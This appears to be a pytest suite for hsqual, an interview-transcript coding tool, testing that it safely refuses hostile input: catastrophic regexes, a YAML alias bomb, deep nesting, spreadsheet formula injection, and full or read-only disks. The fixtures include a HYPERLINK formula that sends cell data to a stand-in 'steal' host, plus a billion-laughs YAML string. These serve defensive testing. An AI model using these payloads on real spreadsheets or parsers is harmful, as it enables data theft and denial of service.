"""Hostile and careless input: no rule, codebook, transcript or output path can hang hsqual,
exhaust its memory, crash it with a traceback, or lose a person's file.

Each case names the file, line or position of the problem in its error.
"""

from __future__ import annotations

import pytest

from hsqual.errors import RuleSyntaxError
from hsqual.patterns import MAX_GROUP_DEPTH, compile_regex
from hsqual.rules import MAX_DEPTH, parse_rule

SENTENCE_27_WORDS = ("Human security puts people at the centre and asks what they fear and what they lack "
                     "and how they can live in dignity without fear or want")


def _rule_error(rule: str, lang: str = "en") -> RuleSyntaxError:
    with pytest.raises(RuleSyntaxError) as err:
        parse_rule(rule, language=lang, code="x.y", path="codebooks/x.yaml", line=12)
    return err.value


def _caret_at(err: RuleSyntaxError) -> int:
    """The character of the rule the caret points at (ASCII rules: one column each)."""
    lines = str(err).splitlines()
    return lines[-1].index("^") - 2


# -- regular expressions ------------------------------------------------------------------

def test_catastrophic_regex_runs_in_linear_time():
    assert len(SENTENCE_27_WORDS.split()) == 27
    rule = parse_rule(r"/(\w+\s?)+:/", language="en")
    assert type(rule.root.compiled).__module__ == "re2"  # Python's re would not return on the sentence
    assert rule.match(SENTENCE_27_WORDS) is None
    assert rule.match(SENTENCE_27_WORDS * 200) is None  # 5,400 words, still no backtracking
    assert rule.match("Interviewee 4: dignity") == [(0, 14)]


@pytest.mark.parametrize("pattern", ["x*", "a|", r"\b", "(?:)", "^", "(fear)?", r"\s*$", "[a-z]{0,3}"])
def test_regex_matching_the_empty_string_is_refused_with_a_caret(pattern):
    err = _rule_error(f"fear OR /{pattern}/")
    assert "can match the empty string, so it would code every unit" in str(err)
    assert err.path == "codebooks/x.yaml" and err.line == 12 and err.code == "x.y"
    assert _caret_at(err) == 9


@pytest.mark.parametrize("pattern, what, at", [
    ("(?<=human )security", "lookbehind (?<=", 0),
    ("security(?! council)", "negative lookahead (?!", 8),
    (r"(fear)\1", r"a backreference \1", 6),
    ("(?P<w>fear)(?P=w)", "a backreference (?P=name)", 11),
    ("[\\W]", r"\W inside [...] is not supported", 1),
])
def test_regex_re2_cannot_run_is_refused_with_a_caret(pattern, what, at):
    err = _rule_error(f"/{pattern}/")
    assert what in str(err) and "not supported" in str(err)
    assert _caret_at(err) == 1 + at


def test_regex_syntax_errors_keep_pythons_words_and_position():
    err = _rule_error("want | /fe[ar/")
    assert "bad regular expression: unterminated character set" in str(err)
    assert _caret_at(err) == 10
    err = _rule_error("/a{2000}/")  # RE2 repeats at most 1000 times
    assert "invalid repetition size" in str(err) and _caret_at(err) == 2


def test_deeply_nested_regex_groups_are_refused_with_the_depth():
    err = _rule_error("/" + "(" * 250 + "a" + ")" * 250 + "/")
    assert f"groups nest {MAX_GROUP_DEPTH + 1} deep here, more than the limit of {MAX_GROUP_DEPTH}" in str(err)
    assert _caret_at(err) == 1 + MAX_GROUP_DEPTH
    parse_rule("/" + "(" * MAX_GROUP_DEPTH + "a" + ")" * MAX_GROUP_DEPTH + "/", language="en")


@pytest.mark.parametrize("rule, what, at", [
    ("(" * 250 + "fear" + ")" * 250, "parentheses", MAX_DEPTH),
    ("NOT " * 300 + "fear", "NOTs", 4 * MAX_DEPTH),
    ("fear AND " + "(" * 40 + "want" + ")" * 40, "parentheses", 9 + MAX_DEPTH),
])
def test_deeply_nested_rules_are_refused_with_the_depth_and_a_caret(rule, what, at):
    err = _rule_error(rule)
    assert f"{what} nest {MAX_DEPTH + 1} deep here, more than the limit of {MAX_DEPTH}" in str(err)
    assert _caret_at(err) == at
    assert err.line == 12


def test_nesting_at_the_limit_still_parses_and_matches():
    rule = parse_rule("(" * MAX_DEPTH + "fear" + ")" * MAX_DEPTH, language="en")
    assert rule.match("no fear") == [(3, 7)]


def test_python_semantics_of_w_d_s_for_japanese_authors():
    assert [m.group() for m in compile_regex(r"\w+").finditer("人間の安全保障、ｶﾞｲﾄﾞ_1")] == ["人間の安全保障", "ｶﾞｲﾄﾞ_1"]
    assert [m.group() for m in compile_regex(r"\d+").finditer("第３回 and 12")] == ["３", "12"]
    assert [m.group() for m in compile_regex(r"a\sb").finditer("a\u3000b a\u2029b a_b")] == ["a\u3000b", "a\u2029b"]
    assert [m.group() for m in compile_regex(r"[\w-]+").finditer("bottom-up 下から")] == ["bottom-up", "下から"]
    assert compile_regex(r"\u4eba\u9593").search("人間の安全保障").span() == (0, 2)
    assert compile_regex(r"x{,2}y").search("xxxy").span() == (1, 4)  # {,n} as Python reads it
    assert [m.group() for m in compile_regex(r"\p{Han}+").finditer("人間の安全保障")] == ["人間", "安全保障"]
    err = _rule_error(r"/[\p{Katakana}ー]+ AND \p{Nope}/", "ja")
    assert "unknown Unicode class" in str(err) and _caret_at(err) == 23


# -- YAML: codebooks and transcript front matter ----------------------------------------------

from hsqual.codebook import Code, Codebook, load_codebook, parse_codebook  # noqa: E402
from hsqual.errors import CodebookError, TranscriptError  # noqa: E402
from hsqual.export import codebook_to_markdown  # noqa: E402
from hsqual.resources import bundled_codebooks  # noqa: E402
from hsqual.rules import code_order  # noqa: E402
from hsqual.transcripts import read_transcript  # noqa: E402
from hsqual import yamlio  # noqa: E402

ALIAS_BOMB = "".join(
    [f'a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n']
    + [f"a{i}: &a{i} [*a{i-1},*a{i-1},*a{i-1},*a{i-1},*a{i-1},*a{i-1},*a{i-1},*a{i-1},*a{i-1}]\n" for i in range(1, 9)])


@pytest.mark.parametrize("key", ["notes", "speakers", "id"])
def test_alias_bomb_in_front_matter_is_refused_at_the_alias(tmp_path, key):
    header = ALIAS_BOMB + f"{key}: *a8\n"
    assert len(header.encode()) < 700
    p = tmp_path / "int01.md"
    p.write_text("---\n" + header + "---\nInterviewer: hello\n", encoding="utf-8")
    with pytest.raises(TranscriptError) as err:
        read_transcript(p)
    assert "alias '*a0'" in str(err.value) and "aliases are not read" in str(err.value)
    assert err.value.path == str(p) and err.value.line == 3  # line 1 is '---', the first alias on line 3
    assert str(err.value).startswith(f"{p}:3:")


def test_alias_in_a_codebook_is_refused_with_line_and_column(tmp_path):
    p = tmp_path / "cb.yaml"
    p.write_text("id: demo\nversion: '1'\ntitle: &t {en: Demo, ja: デモ}\nsource: *t\ncodes: []\n", encoding="utf-8")
    with pytest.raises(CodebookError) as err:
        load_codebook(p)
    assert (err.value.line, err.value.column) == (4, 9) and "alias '*t'" in str(err.value)


@pytest.mark.parametrize("where", ["codebook", "front matter"])
@pytest.mark.parametrize("levels", [500, 5000])
def test_deep_yaml_nesting_names_the_depth_and_position(tmp_path, where, levels):
    deep = "[" * levels + "]" * levels
    if where == "codebook":
        p = tmp_path / "cb.yaml"
        p.write_text(f"id: demo\nnotes: {deep}\n", encoding="utf-8")
        with pytest.raises(CodebookError) as err:
            load_codebook(p)
        line = 2
    else:
        p = tmp_path / "t.md"
        p.write_text(f"---\nid: x\nnotes: {deep}\n---\nbody\n", encoding="utf-8")
        with pytest.raises(TranscriptError) as err:
            read_transcript(p)
        line = 3
    depth = yamlio.MAX_DEPTH
    assert err.value.path == str(p) and err.value.line == line
    if levels < 1000 or not yamlio.LIBYAML:
        assert f"nest {depth + 1} deep here, more than the limit of {depth}" in str(err.value)
        assert err.value.column == 7 + depth  # the top-level mapping is the first level
    else:  # libyaml's scanner stops at 1000 levels before the first deep list reaches hsqual
        assert "exceeded maximum nesting depth" in str(err.value) and err.value.column > 1000


def test_yaml_size_limits(tmp_path):
    with pytest.raises(CodebookError, match="holds 2,001 characters, more than the limit of 2,000"):
        yamlio.compose_yaml("#" * 2001, path="x.yaml", max_chars=2000)
    p = tmp_path / "t.md"
    p.write_text("---\nnotes: '" + "x" * 16_000_001 + "'\n---\nbody\n", encoding="utf-8")
    with pytest.raises(TranscriptError, match="more than the limit of 16,000,000") as err:
        read_transcript(p)
    assert err.value.path == str(p)


def test_libyaml_reads_the_bundled_codebooks_with_the_same_nodes_and_positions():
    import yaml

    assert yamlio.LIBYAML  # PyYAML is built with libyaml here: the fast parser is the one tested

    def flat(node):
        out, stack = [], [node]
        while stack:
            n = stack.pop()
            out.append((type(n).__name__, n.tag, n.start_mark.line, n.start_mark.column,
                        n.value if isinstance(n, yaml.ScalarNode) else None))
            if isinstance(n, yaml.SequenceNode):
                stack.extend(reversed(n.value))
            elif isinstance(n, yaml.MappingNode):
                stack.extend(x for kv in reversed(n.value) for x in reversed(kv))
        return out

    for path in bundled_codebooks():
        text = path.read_text(encoding="utf-8")
        assert flat(yamlio.compose_yaml(text)) == flat(yaml.compose(text, Loader=yaml.SafeLoader))
        assert yamlio.load_yaml(text) == yaml.safe_load(text)


def test_codebook_errors_keep_their_line_and_column():
    text = "id: demo\nversion: '1'\ntitle: {en: Demo}\nsource: s\nlanguages: [en]\ncodes:\n  - id: a\n    lable: {en: A}\n"
    with pytest.raises(CodebookError) as err:
        parse_codebook(text, path="demo.yaml")
    assert (err.value.line, err.value.column) == (8, 5)
    with pytest.raises(CodebookError) as err:
        parse_codebook("id: demo\ntitle: [unclosed\n", path="demo.yaml")
    assert err.value.line == 3 and "not valid YAML" in str(err.value)


def test_written_yaml_never_holds_aliases():
    shared = ["Interviewer", "Interviewee 4"]
    text = yamlio.dump_yaml({"speakers": shared, "cited": shared})
    assert "&" not in text and "*" not in text
    assert yamlio.load_yaml(text) == {"speakers": shared, "cited": shared}


def test_a_code_tree_thousands_deep_is_handled_without_recursion():
    n = 5000
    codes = [Code(id="c0", label={"en": "c0"}, rules={"en": ("fear",)})]
    codes += [Code(id=f"c{i}", label={"en": f"c{i}"}, parent=f"c{i - 1}", rules={"en": (f"code:c{i - 1}",)})
              for i in range(1, n)]
    cb = Codebook("deep", codes, title={"en": "Deep"})
    assert cb.depth(f"c{n - 1}") == n - 1
    md = codebook_to_markdown(cb, lang="en")
    assert md.index("## c0") < md.index("###### c4999")
    assert code_order(cb) == [f"c{i}" for i in range(n)]  # each after the code it refers to


# -- NEAR/SEQ over a long unit: no pair-by-pair loop ----------------------------------------

import random  # noqa: E402

from hsqual.rules import DocIndex, Near, UnitSet  # noqa: E402


def _pairs_by_definition(node, U, k):
    """NEAR/SEQ as the rule language defines it, looking at every pair."""
    A, B = U.group_ranges(node.a, k), U.group_ranges(node.b, k)
    wn, sent = U.index.word_no, U.index.sentence
    used = set()
    for a in A:
        for b in B:
            if b[0] > a[1]:
                first, second = a, b
            elif a[0] > b[1] and node.kind == "NEAR":
                first, second = b, a
            else:
                continue
            # ', sentence': both occurrences, whole, in one sentence
            if wn[second[0]] - wn[first[1]] > node.n or (node.sentence and sent[first[0]] != sent[second[1]]):
                continue
            used.update((a, b))
    return sorted(used) if used else None


@pytest.mark.parametrize("seed", range(12))
def test_near_and_seq_find_the_pairs_the_definition_finds(seed):
    from hsqual.rules.match import near_pairs

    rng = random.Random(seed)
    words = ["fear", "want", "of", "violence", "people", ",", ".", "freedom from fear", "dignity", "done. But"]
    text = " ".join(rng.choice(words) for _ in range(rng.randint(5, 400)))
    U = UnitSet(DocIndex(text, "en"), [0], [len(text)], meta={})
    for rule in ["NEAR(fear, (want | violence), 3)", "SEQ(fear, want, 2)", "NEAR((fear | people), fear, 1)",
                 "NEAR(\"freedom from fear\", fear, 4, sentence)", "SEQ(want, (fear | dignity), 5, sentence)",
                 "NEAR((\"done but\" | want), fear, 3, sentence)", "SEQ(fear, \"done but\", 2, sentence)"]:
        node = parse_rule(rule, language="en").root
        assert isinstance(node, Near)
        assert near_pairs(node, U, 0) == _pairs_by_definition(node, U, 0), (rule, text)


# -- outputs: spreadsheets, overwriting, full and read-only disks, killed runs ----------------

import errno  # noqa: E402
import os  # noqa: E402
import warnings  # noqa: E402

import openpyxl  # noqa: E402
import pandas as pd  # noqa: E402

from hsqual.cli import main  # noqa: E402
from hsqual.codings import codings_frame, read_codings, write_codings  # noqa: E402
from hsqual.errors import OutputError  # noqa: E402
from hsqual.export import write_workbook  # noqa: E402
from hsqual.resources import bundled_path  # noqa: E402
from hsqual.writers import (FORMULA_STARTS, atomic_write, clean_stale_temporaries, file_state,  # noqa: E402
                            staged_folder, write_table)

HYPERLINK = '=HYPERLINK("http://example.invalid/steal?d="&A1,"freedom from fear")'
CODEBOOK = str(bundled_path("codebooks") / "three_freedoms.yaml")
PERSON = "doc_id,segment_id,code,start,end,quote,coder\nint01,1,freedoms.fear,0,4,fear,tanaka\n"


def _transcript(tmp_path, body=f"Interviewee 4: {HYPERLINK}\n\nInterviewee 4: Freedom from fear matters.\n"):
    p = tmp_path / "int01.md"
    p.write_text("---\nid: int01\nlanguage: en\n---\n" + body, encoding="utf-8")
    return p


def _cells(path, sheet=None):
    wb = openpyxl.load_workbook(path)
    ws = wb[sheet] if sheet else wb.worksheets[0]
    return [c for row in ws.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]


@pytest.mark.parametrize("text", [HYPERLINK, "+1 555 0100", "-5 degrees", "@SUM(A1)", "\tTab", "\rCR", "=1+1"])
def test_xlsx_cells_are_text_never_formulas(tmp_path, text):
    assert text.startswith(FORMULA_STARTS)
    df = pd.DataFrame({"quote": [text, "plain"]})
    for p in (write_table(df, tmp_path / "t.xlsx"), write_workbook({"codings": df}, tmp_path / "w.xlsx")):
        cell = next(c for c in _cells(p) if c.value == text)
        assert cell.data_type == "s" and cell.quotePrefix  # a string cell, shown and edited as text
        assert pd.read_excel(p)["quote"].tolist() == [text, "plain"]
    plain = next(c for c in _cells(tmp_path / "t.xlsx") if c.value == "plain")
    assert not plain.quotePrefix


def test_code_to_xlsx_writes_a_hyperlink_quote_as_text(tmp_path, capsys):
    out = tmp_path / "codings.xlsx"
    transcript = _transcript(tmp_path, body=f"{HYPERLINK}\n\nFreedom from fear matters.\n")
    assert main(["code", "--codebook", CODEBOOK, str(transcript), "--unit", "paragraph", "-o", str(out)]) == 0
    quotes = [c for c in _cells(out) if c.value == HYPERLINK]
    assert quotes and all(c.data_type == "s" for c in quotes)  # the quote, not a formula
    wb = openpyxl.load_workbook(out)
    assert not any(c.data_type == "f" for ws in wb.worksheets for row in ws.iter_rows() for c in row)


def test_csv_keeps_the_text_exactly(tmp_path):
    df = codings_frame([{"doc_id": "d", "segment_id": 1, "code": "c", "start": 0, "end": len(HYPERLINK),
                         "quote": HYPERLINK, "coder": "rules"}])
    assert read_codings(write_codings(df, tmp_path / "c.csv"))["quote"].tolist() == [HYPERLINK]


def test_code_with_an_unknown_suffix_fails_before_any_work(tmp_path, capsys, monkeypatch):
    import hsqual.codebook

    def never(*a, **k):
        raise AssertionError("the codebooks were read before the output path was checked")

    monkeypatch.setattr(hsqual.codebook, "load_codebooks", never)
    assert main(["code", "--codebook", CODEBOOK, str(tmp_path / "x.md"), "-o", str(tmp_path / "out.txt")]) == 1
    err = capsys.readouterr().err
    assert err == (f"hsqual code: error: {tmp_path / 'out.txt'}: cannot tell the format from the suffix '.txt'; "
                   "expected .csv, .xlsx or .parquet\n")


@pytest.mark.parametrize("where", ["under a file", "folder as output"])
def test_code_to_a_place_that_cannot_be_written_fails_at_once(tmp_path, capsys, where):
    (tmp_path / "notes.txt").write_text("x")
    out = tmp_path / "notes.txt" / "codings.csv" if where == "under a file" else tmp_path / "codings.csv"
    if where == "folder as output":
        out.mkdir()
    assert main(["code", "--codebook", CODEBOOK, str(tmp_path / "missing.md"), "-o", str(out)]) == 1
    err = capsys.readouterr().err
    assert err.startswith(f"hsqual code: error: {out}: ") and err.count("\n") == 1
    assert "is a file, not a folder" in err if where == "under a file" else "is a folder" in err


@pytest.mark.parametrize("before", ["absent", "machine codings"])
def test_code_never_replaces_a_file_a_person_saved_during_the_run(tmp_path, capsys, monkeypatch, before):
    import hsqual.apply

    out = tmp_path / "codings.csv"
    if before == "machine codings":
        out.write_text("doc_id,segment_id,code,start,end,quote,coder\nint01,1,freedoms.fear,0,4,fear,rules\n")
    real = hsqual.apply.apply_codebook

    def coding_while_a_person_saves(*a, **k):
        result = real(*a, **k)
        out.write_text(PERSON)  # the person saves their work at -o while the rules run
        return result

    monkeypatch.setattr(hsqual.apply, "apply_codebook", coding_while_a_person_saves)
    assert main(["code", "--codebook", CODEBOOK, str(_transcript(tmp_path)), "-o", str(out)]) == 1
    assert out.read_text() == PERSON
    err = capsys.readouterr().err
    assert err.startswith(f"hsqual code: error: {out}: ") and "while hsqual was working" in err
    assert sorted(os.listdir(tmp_path)) == ["codings.csv", "int01.md"]  # no temporary file left


def test_code_replaces_its_own_machine_codings(tmp_path, capsys):
    out = tmp_path / "codings.csv"
    args = ["code", "--codebook", CODEBOOK, str(_transcript(tmp_path)), "-o", str(out)]
    assert main(args) == 0 and main(args) == 0
    assert set(read_codings(out)["coder"]) == {"rules"}


def test_atomic_write_exclusive_and_state_checks(tmp_path):
    target = tmp_path / "t.csv"
    state = file_state(target)
    with pytest.raises(OutputError, match="a file appeared there while hsqual was working") as err:
        with atomic_write(target, replace=state) as fh:
            fh.write("machine")
            target.write_text("person")
    assert target.read_text() == "person" and err.value.path == str(target)
    state = file_state(target)
    with pytest.raises(OutputError, match="the file changed while hsqual was working"):
        with atomic_write(target, replace=state) as fh:
            fh.write("machine")
            time_ns = os.stat(target).st_mtime_ns
            target.write_text("person, edited")
            os.utime(target, ns=(time_ns + 10**9, time_ns + 10**9))
    assert target.read_text() == "person, edited"
    assert os.listdir(tmp_path) == ["t.csv"]


def _enospc(monkeypatch):
    def disk_full(fd):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(os, "fsync", disk_full)


def test_full_disk_during_code_is_one_line_naming_the_file(tmp_path, capsys, monkeypatch):
    out = tmp_path / "codings.csv"
    _enospc(monkeypatch)
    assert main(["code", "--codebook", CODEBOOK, str(_transcript(tmp_path)), "-o", str(out)]) == 1
    err = capsys.readouterr().err
    assert err == (f"hsqual code: error: {out}: cannot write the file: No space left on device "
                   "(the disk is full: free some space and run again)\n")
    assert sorted(os.listdir(tmp_path)) == ["int01.md"]


def test_read_only_folder_is_one_line_naming_the_file(tmp_path, capsys, monkeypatch):
    real_open = os.open
    ro = tmp_path / "readonly"
    ro.mkdir()

    def read_only(path, *a, **k):  # root writes through chmod 0555, so the disk's answer is injected
        if str(path).startswith(str(ro)):
            raise OSError(errno.EROFS, "Read-only file system", str(path))
        return real_open(path, *a, **k)

    monkeypatch.setattr(os, "open", read_only)
    out = ro / "codings.csv"
    assert main(["code", "--codebook", CODEBOOK, str(_transcript(tmp_path)), "-o", str(out)]) == 1
    err = capsys.readouterr().err
    assert err == (f"hsqual code: error: {out}: cannot write in the folder {ro}: Read-only file system "
                   "(choose a folder you can write to)\n")
    with pytest.raises(OutputError, match="Read-only file system") as e:
        write_table(pd.DataFrame({"a": [1]}), out)
    assert e.value.path == str(out) and isinstance(e.value, OSError)


def test_import_leaves_no_half_written_folder(tmp_path, capsys, monkeypatch):
    import hsqual.codings
    from malicious.crafted import foreign_qdpx

    text = "Interviewer: Why?\nInterviewee: Dignity matters.\n"
    s = text.index("Dignity")
    src = tmp_path / "p.qdpx"
    src.write_bytes(foreign_qdpx(text, [(s, s + 7, "Dignity")]))
    out = tmp_path / "imported"
    real = hsqual.codings.write_codings

    def full_disk_at_the_codings(codings, path, **k):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(hsqual.codings, "write_codings", full_disk_at_the_codings)
    assert main(["import", str(src), "--out", str(out)]) == 1
    err = capsys.readouterr().err
    assert err.startswith(f"hsqual import: error: {out}: ") and "No space left on device" in err
    assert sorted(os.listdir(tmp_path)) == ["p.qdpx"]  # neither imported/ nor a staging folder
    monkeypatch.setattr(hsqual.codings, "write_codings", real)
    assert main(["import", str(src), "--out", str(out)]) == 0  # the rerun is not refused
    assert sorted(p.name for p in out.iterdir()) == ["codebooks", "codings.csv", "transcripts"]


def test_import_never_replaces_a_file_that_appeared_meanwhile(tmp_path, capsys, monkeypatch):
    import hsqual.codings
    from malicious.crafted import foreign_qdpx

    text = "Interviewer: Why?\nInterviewee: Dignity matters.\n"
    src = tmp_path / "p.qdpx"
    src.write_bytes(foreign_qdpx(text, []))
    out = tmp_path / "imported"
    out.mkdir()
    real = hsqual.codings.write_codings

    def person_saves_meanwhile(codings, path, **k):
        (out / "codings.csv").write_text(PERSON)
        return real(codings, path, **k)

    monkeypatch.setattr(hsqual.codings, "write_codings", person_saves_meanwhile)
    assert main(["import", str(src), "--out", str(out)]) == 1
    assert (out / "codings.csv").read_text() == PERSON
    assert sorted(p.name for p in out.iterdir()) == ["codings.csv"]  # nothing else moved in either
    assert "while hsqual was working" in capsys.readouterr().err


def test_reproduce_leaves_no_half_written_folder(tmp_path, capsys, monkeypatch):
    import hsqual.writers

    def full_disk(*a, **k):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(hsqual.writers, "write_text", full_disk)  # summary.md, written last
    out = tmp_path / "study"
    assert main(["reproduce", "kurusu2015", "--out", str(out), "--no-figures"]) == 1
    err = capsys.readouterr().err
    assert err.startswith(f"hsqual reproduce: error: {out}: ") and err.count("\n") == 1
    assert os.listdir(tmp_path) == []


def test_stale_temporaries_of_a_killed_run_are_removed_and_reported(tmp_path):
    target = tmp_path / "codings.csv"
    dead = tmp_path / ".codings.csv.hsqual-999999999-dead.tmp"  # no such process
    dead.write_text("half a table")
    dead_dir = tmp_path / ".codings.csv.hsqual-999999998-dead.tmp"
    dead_dir.mkdir()
    live = tmp_path / f".codings.csv.hsqual-{os.getppid()}-live.tmp"  # a running process's
    live.write_text("being written")
    other = tmp_path / ".notes.txt.hsqual-999999999-dead.tmp"  # another target's: left alone
    other.write_text("x")
    with pytest.warns(UserWarning, match=r"removed 2 unfinished temporary file\(s\) of an interrupted run: ") as rec:
        write_table(pd.DataFrame({"a": [1]}), target)
    assert str(dead) in str(rec[0].message) and str(dead_dir) in str(rec[0].message)
    assert sorted(os.listdir(tmp_path)) == sorted([live.name, other.name, "codings.csv"])
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        assert clean_stale_temporaries(target) == []


def test_staged_folder_of_a_killed_run_is_removed_on_the_next(tmp_path):
    out = tmp_path / "imported"
    stale = tmp_path / ".imported.hsqual-999999999-dead.tmp"
    (stale / "transcripts").mkdir(parents=True)
    (stale / "transcripts" / "int01.md").write_text("half")
    with pytest.warns(UserWarning, match="interrupted run"):
        with staged_folder(out) as work:
            (work / "codings.csv").write_text("doc_id")
    assert sorted(os.listdir(tmp_path)) == ["imported"]
